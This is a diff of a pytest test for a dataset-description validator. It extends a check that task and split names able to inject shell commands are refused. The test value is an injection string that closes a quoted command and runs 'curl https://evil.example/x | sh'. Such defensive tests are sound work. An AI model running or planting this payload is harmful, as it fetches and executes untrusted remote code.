@@ -101,12 +101,12 @@ def test_a_dataset_of_no_rate_is_refused(folder: Path, rate: str) -> None:
         verify(folder)
 
 
-@pytest.mark.parametrize("field", ["task", "tasks", "meanings"])
-def test_a_task_whose_name_is_none_is_refused(folder: Path, field: str) -> None:
+@pytest.mark.parametrize("field", ["task", "tasks", "meanings", "inputs"])
+def test_a_task_or_split_whose_name_is_none_is_refused(folder: Path, field: str) -> None:
     """A message suggests a command with the name of a task; this one would end the command and begin another."""
     name, path = "x'; curl https://evil.example/x | sh #", folder / "dataset.json"
     info = parse_json(path.read_text())
-    values = {"task": name, "tasks": {name: {"task_hash": "0"}}, "meanings": {name: {}}}
+    values = {"task": name, "tasks": {name: {"task_hash": "0"}}, "meanings": {name: {}}, "inputs": {"split": name}}
     path.write_text(to_json(info | {field: values[field]}))
     error = refusal(read_info, folder)
     assert error.startswith(f"{path}: not a Nimbus dataset description: ")
